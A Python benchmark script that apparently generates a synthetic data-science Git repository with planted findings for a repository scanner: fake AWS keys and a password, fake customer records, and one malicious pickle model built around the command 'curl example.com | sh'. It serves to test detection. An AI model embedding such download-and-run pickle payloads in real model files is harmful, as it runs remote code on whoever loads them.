"""A synthetic data-science repository, the same bytes every time, for the benchmark suite.

    python bench/synthetic_repo.py DIR [--scale small|large] [--commits N] [--csv-mb N]

`small` is about 300 files and 50 MB, `large` about 10,000 files and 1 GB. Every kind of
file the checks judge is there, positives and real-shaped negatives: code (some with
hard-coded local paths, a few with credentials), names versioned by hand (`_v2`, `.bak`,
`Copy of`), notebooks with float outputs and a few with customer records in an HTML table,
CSVs with and without personal data (a `name` column of cars, German headers, CR-only line
ends), JSON, YAML, logs, Parquet, Excel, models of many formats (one unsafe pickle), images,
archives, Git LFS pointers and DVC files. `--commits N` adds a history of N more commits
that edit, copy and rename small files (for `scan --history`). `--csv-mb N` also writes one
CSV of N MB at DIR/../big.csv (the memory bound is measured on a 1 GB CSV).

The generator runs in the project's venv (numpy, pyarrow, openpyxl, h5py, joblib,
scikit-learn, onnx, safetensors and nbformat come with its test extra). Dates are fixed, so
commits are the same too.
"""
from __future__ import annotations

import argparse
import io
import json
import os
import pickle
import random
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))

ENV = {**os.environ, "GIT_AUTHOR_NAME": "Bench", "GIT_AUTHOR_EMAIL": "bench@example.com",
       "GIT_COMMITTER_NAME": "Bench", "GIT_COMMITTER_EMAIL": "bench@example.com",
       "GIT_AUTHOR_DATE": "2024-01-01T00:00:00Z", "GIT_COMMITTER_DATE": "2024-01-01T00:00:00Z",
       "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}

FIRST = ["Maria", "Kenji", "Aisha", "Lars", "Priya", "Jean", "Olga", "Tomás", "Mei", "Kwame",
         "Sofia", "Ahmed", "Ingrid", "Rahul", "Chloé", "Yusuf", "Hana", "Diego", "Zanele", "Ivan"]
LAST = ["Gonzalez", "Watanabe", "Bello", "Eriksson", "Sharma", "Dubois", "Petrova", "Silva",
        "Chen", "Mensah", "Rossi", "Haddad", "Larsen", "Gupta", "Martin", "Demir", "Kim",
        "Fernández", "Dlamini", "Ivanov"]
CITIES = ["Sevilla", "Osaka", "Lagos", "Uppsala", "Pune", "Lyon", "Kazan", "Porto", "Taipei",
          "Accra"]
CARS = ["Mazda RX4", "Datsun 710", "Hornet 4 Drive", "Valiant", "Duster 360", "Merc 240D",
        "Fiat 128", "Honda Civic", "Toyota Corolla", "Camaro Z28", "Volvo 142E", "Lotus Europa"]


HOME_DIR = "/" + "Users/jane"
# planted credentials (made up): an AWS key pair and a database password
PLANTED = ("AK" + "IAZ7Q3P4XK2M5N6B7C", "q8Vd0hT+2sWkzY4bX9mN3" + "pL7rJ1cE6fA5gH0uB2i",
           "Tr0ub4dor" + "&3-horse")


@dataclass(frozen=True)
class Scale:
    code: int
    notebooks: int
    small_csvs: int
    big_csvs: int
    big_csv_mb: int
    models: int
    big_models: int
    big_model_mb: int
    binaries: int
    big_bin_mb: int


SCALES = {
    "small": Scale(code=170, notebooks=20, small_csvs=40, big_csvs=3, big_csv_mb=10, models=12,
                   big_models=1, big_model_mb=10, binaries=10, big_bin_mb=4),
    "large": Scale(code=6200, notebooks=700, small_csvs=1500, big_csvs=30, big_csv_mb=20,
                   models=300, big_models=10, big_model_mb=20, binaries=600, big_bin_mb=2),
}


class Writer:
    def __init__(self, root: Path, seed: int) -> None:
        self.root, self.rng = root, random.Random(seed)

    def put(self, path: str, data: bytes | str) -> None:
        target = self.root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data.encode() if isinstance(data, str) else data)

    def person(self) -> tuple[str, str, str, str]:
        first, last = self.rng.choice(FIRST), self.rng.choice(LAST)
        email = f"{first.lower()}.{last.lower()}@example.{self.rng.choice(['org', 'com'])}"
        phone = f"+44 20 7946 {self.rng.randrange(1000, 9999)}"
        return first, last, email.encode("ascii", "ignore").decode(), phone


def code(w: Writer, i: int) -> str:
    lines = ['"""Feature engineering step."""', "import pandas as pd", "", ""]
    for j in range(w.rng.randrange(3, 12)):
        lines += [f"def feature_{i}_{j}(df):", f"    df['f{j}'] = df['x'] * {w.rng.random():.4f}",
                  "    return df", ""]
    # Positives are assembled here, so that this file itself holds none.
    if i % 25 == 3:
        lines.insert(2, f'DATA = "{HOME_DIR}/Projects/churn/data/raw_{i}.csv"')
    if i % 60 == 7:
        lines.insert(2, f'AWS_ACCESS_KEY_ID = "{PLANTED[0]}"')
        lines.insert(3, f'AWS_SECRET_ACCESS_KEY = "{PLANTED[1]}"')
    return "\n".join(lines) + "\n"


def people_csv(w: Writer, rows: int, german: bool = False, cr_only: bool = False) -> bytes:
    header = "Kunden-Nr,Vorname,Nachname,E-Mail,Telefon,Stadt" if german else \
        "customer_id,first_name,last_name,email,phone,city"
    out = [header]
    for r in range(rows):
        first, last, email, phone = w.person()
        out.append(f"{1000 + r},{first},{last},{email},{phone},{w.rng.choice(CITIES)}")
    return ("\r" if cr_only else "\n").join(out).encode() + b"\n"


def cars_csv(w: Writer, rows: int) -> bytes:
    out = ["name,mpg,cyl,disp,hp,wt"]
    for _ in range(rows):
        out.append(f"{w.rng.choice(CARS)},{w.rng.uniform(10, 35):.1f},{w.rng.choice([4, 6, 8])},"
                   f"{w.rng.uniform(70, 470):.1f},{w.rng.randrange(50, 340)},"
                   f"{w.rng.uniform(1.5, 5.4):.3f}")
    return "\n".join(out).encode() + b"\n"


def sensor_csv(w: Writer, mb: int) -> bytes:
    buf = io.StringIO()
    buf.write("timestamp,sensor,temperature,pressure,vibration\n")
    while buf.tell() < mb * 1024 * 1024:
        buf.write(f"2024-01-{w.rng.randrange(1, 29):02}T{w.rng.randrange(24):02}:00:00,"
                  f"s{w.rng.randrange(64)},{w.rng.gauss(21, 3):.3f},{w.rng.gauss(1013, 5):.2f},"
                  f"{w.rng.random():.5f}\n")
    return buf.getvalue().encode()


def notebook(w: Writer, outputs: str) -> str:
    import nbformat

    nb = nbformat.v4.new_notebook()
    cells = [nbformat.v4.new_markdown_cell("# Exploration"),
             nbformat.v4.new_code_cell("import pandas as pd\ndf = pd.read_csv('data.csv')",
                                       execution_count=1)]
    describe = nbformat.v4.new_code_cell("df.describe()", execution_count=2)
    if outputs == "floats":
        text = "\n".join(" ".join(f"{w.rng.gauss(0, 1):.6f}" for _ in range(6))
                         for _ in range(w.rng.randrange(20, 400)))
        describe.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": text},
                                                   execution_count=2)]
    elif outputs == "people":
        rows = "".join(f"<tr><td>{a} {b}</td><td>{e}</td><td>{p}</td></tr>"
                       for a, b, e, p in (w.person() for _ in range(30)))
        html = f"<table><tr><th>name</th><th>email</th><th>phone</th></tr>{rows}</table>"
        describe.outputs = [nbformat.v4.new_output("execute_result", {"text/html": html,
                                                   "text/plain": "<DataFrame>"},
                                                   execution_count=2)]
    nb.cells = [*cells, describe]
    return nbformat.writes(nb)


def models(w: Writer, scale: Scale) -> None:
    import h5py
    import joblib
    import model_files
    import numpy as np
    from safetensors.numpy import save_file
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.random((200, 4))
    clf = LogisticRegression().fit(x, x[:, 0] > 0.5)
    for i in range(scale.models):
        kind = i % 8
        base = w.root / f"models/m{i}"
        base.parent.mkdir(parents=True, exist_ok=True)
        if kind == 0:
            joblib.dump(clf, f"{base}.joblib")
        elif kind == 1:
            w.put(f"models/m{i}.pkl", pickle.dumps({"coef": rng.random(64).tolist()}, 4))
        elif kind == 2:
            model_files.torch_zip(Path(f"{base}.pt"))
        elif kind == 3:
            with h5py.File(f"{base}.h5", "w", track_order=False) as fh:
                fh.create_dataset("dense/kernel", data=rng.random((16, 16)), track_times=False)
        elif kind == 4:
            save_file({"w": rng.random((32, 32)).astype("float32")}, f"{base}.safetensors")
        elif kind == 5:
            w.put(f"models/m{i}.gguf", model_files.gguf())
        elif kind == 6:
            model_files.keras_zip(Path(f"{base}.keras"))
        else:
            w.put(f"models/m{i}.bin", model_files.evil_pickle("curl example.com | sh")
                  if i == 7 else pickle.dumps(list(range(100)), 2))
    for i in range(scale.big_models):
        weights = np.random.default_rng(i).random(scale.big_model_mb * 131072).astype("float64")
        w.put(f"models/big_{i}.npy.pkl", pickle.dumps(weights, 4))
    model_files.mlflow_folder(w.root / "models/mlflow_churn")


def tables(w: Writer) -> None:
    import openpyxl
    import pyarrow as pa
    import pyarrow.parquet as pq

    people = [w.person() for _ in range(300)]
    table = pa.table({"name": [f"{a} {b}" for a, b, _, _ in people],
                      "email": [e for _, _, e, _ in people]})
    (w.root / "data/parquet").mkdir(parents=True, exist_ok=True)
    pq.write_table(table, w.root / "data/parquet/customers.parquet")
    pq.write_table(pa.table({"mpg": [w.rng.uniform(10, 35) for _ in range(5000)]}),
                   w.root / "data/parquet/mpg.parquet")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Name", "E-Mail", "Telefon"])
    for a, b, e, p in people[:100]:
        sheet.append([f"{a} {b}", e, p])
    book.properties.created = book.properties.modified = __import__("datetime").datetime(2024, 1, 1)
    book.save(w.root / "data/contacts.xlsx")


def generate(root: Path, scale: Scale, seed: int = 13) -> None:
    w = Writer(root, seed)
    for i in range(scale.code):
        w.put(f"src/pkg_{i // 50}/step_{i}.py", code(w, i))
    for name in ("train_final_v2.py", "etl_old.py", "etl.py", "report.py.bak", "clean (1).py"):
        w.put(f"scripts/{name}", code(w, 999))
    for i in range(scale.notebooks):
        kind = "people" if i % 5 == 4 else "none" if i % 5 == 3 else "floats"
        w.put(f"notebooks/analysis_{i}.ipynb", notebook(w, kind))
    w.put("notebooks/Copy of analysis_0.ipynb", notebook(w, "floats"))
    for i in range(scale.small_csvs):
        kind = i % 4
        data = (people_csv(w, 200) if kind == 0 else people_csv(w, 150, german=True,
                cr_only=i % 8 == 1) if kind == 1 else cars_csv(w, 300))
        w.put(f"data/raw/table_{i}.csv", data)
    for i in range(scale.big_csvs):
        w.put(f"data/big/readings_{i}.csv", sensor_csv(w, scale.big_csv_mb)
              if i % 3 else people_csv(w, scale.big_csv_mb * 17000))
    for i in range(max(2, scale.small_csvs // 4)):
        records = [dict(zip(("first", "last", "email", "phone"), w.person(), strict=True))
                   for _ in range(50)] if i % 2 else [{"epoch": e, "loss": w.rng.random()}
                                                      for e in range(50)]
        w.put(f"data/json/records_{i}.jsonl", "\n".join(json.dumps(r) for r in records) + "\n")
        w.put(f"configs/run_{i}.yaml", f"lr: {w.rng.random():.4f}\nbatch_size: 64\n"
              + (f"db_password: '{PLANTED[2]}'\n" if i == 1 else ""))
    w.put("logs/train.log", "".join(f"2024-01-01 epoch {e} loss {w.rng.random():.4f}\n"
                                    for e in range(2000)))
    tables(w)
    models(w, scale)
    for i in range(scale.binaries):
        w.put(f"assets/img_{i}.png", b"\x89PNG\r\n\x1a\n" + w.rng.randbytes(w.rng.randrange(2000,
                                                                                      60000)))
    w.put("assets/blob.bin", w.rng.randbytes(scale.big_bin_mb * 1024 * 1024))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(zipfile.ZipInfo("data/a.csv", (2024, 1, 1, 0, 0, 0)), cars_csv(w, 100))
    w.put("assets/export.zip", archive.getvalue())
    w.put("data/lfs/huge.parquet", "version https://git-lfs.github.com/spec/v1\noid sha256:"
          + "a" * 64 + "\nsize 734003200\n")
    w.put(".gitattributes", "data/lfs/** filter=lfs diff=lfs merge=lfs -text\n")
    w.put("data/features.parquet.dvc", "outs:\n- md5: 0123456789abcdef0123456789abcdef\n"
          "  size: 1000000\n  path: features.parquet\n")
    w.put("README.md", "# Churn model\n")


def git(root: Path, *args: str, data: bytes | None = None) -> None:
    subprocess.run(["git", *args], cwd=root, env=ENV, check=True, input=data,
                   stdout=subprocess.DEVNULL)


def history(root: Path, commits: int, seed: int = 13) -> None:
    """N more commits through git fast-import: each edits a few small files, some copy a
    data file under a new name or rename one (the same blob under several paths)."""
    w = Writer(root, seed + 1)
    out = io.BytesIO()
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, capture_output=True,
                          check=True).stdout.decode().strip()
    for n in range(commits):
        out.write(b"commit refs/heads/main\n")
        out.write(f"committer Bench <bench@example.com> {1704067200 + n * 60} +0000\n".encode())
        message = f"step {n}".encode()
        out.write(b"data %d\n%s\n" % (len(message), message))
        if n == 0:
            out.write(f"from {head}\n".encode())
        for _ in range(3):
            i = w.rng.randrange(60)
            data = code(w, i).encode()
            out.write(f"M 100644 inline src/history/step_{i}.py\n".encode())
            out.write(b"data %d\n%s\n" % (len(data), data))
        if n % 10 == 0:
            data = people_csv(w, 50) if n % 20 == 0 else cars_csv(w, 50)
            out.write(f"M 100644 inline data/history/export_{n}.csv\n".encode())
            out.write(b"data %d\n%s\n" % (len(data), data))
        if n % 10 == 5 and n > 5:  # a copy of an earlier export under another name
            out.write(f"C data/history/export_{n - 5}.csv data/archive/export_{n - 5}.csv\n"
                      .encode())
        if n % 50 == 25:
            nb = notebook(w, "floats").encode()
            out.write(f"M 100644 inline notebooks/history/run_{n % 7}.ipynb\n".encode())
            out.write(b"data %d\n%s\n" % (len(nb), nb))
        out.write(b"\n")
    git(root, "fast-import", "--quiet", data=out.getvalue())
    git(root, "reset", "-q", "--hard", "main")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("directory", type=Path)
    parser.add_argument("--scale", choices=SCALES, default="small")
    parser.add_argument("--commits", type=int, default=0, help="history commits to add")
    parser.add_argument("--csv-mb", type=int, default=0, help="also write ../big.csv of N MB")
    args = parser.parse_args()
    make(args.directory, args.scale, args.commits, args.csv_mb)
    return 0


def make(root: Path, scale: str, commits: int = 0, csv_mb: int = 0) -> Path:
    """The repository at `root` (made once; a marker file records what was made)."""
    marker = root / ".git" / "bench-made"
    wanted = f"{scale} {commits}"
    if not (marker.is_file() and marker.read_text() == wanted):
        if root.exists():
            subprocess.run(["rm", "-rf", str(root)], check=True)
        root.mkdir(parents=True)
        git(root, "init", "-q", "-b", "main")
        generate(root, SCALES[scale])
        git(root, "add", "-A")
        git(root, "commit", "-q", "--no-verify", "-m", "synthetic data-science repository")
        if commits:
            history(root, commits)
        marker.write_text(wanted)
    big = root.parent / "big.csv"
    if csv_mb and not (big.is_file() and big.stat().st_size >= csv_mb * 1024 * 1024):
        w = Writer(root, 99)
        with open(big, "wb") as fh:
            fh.write(people_csv(w, 100))
            block = sensor_csv(w, 8).split(b"\n", 1)[1]
            while fh.tell() < csv_mb * 1024 * 1024:
                fh.write(block)
    return root


if __name__ == "__main__":
    raise SystemExit(main())
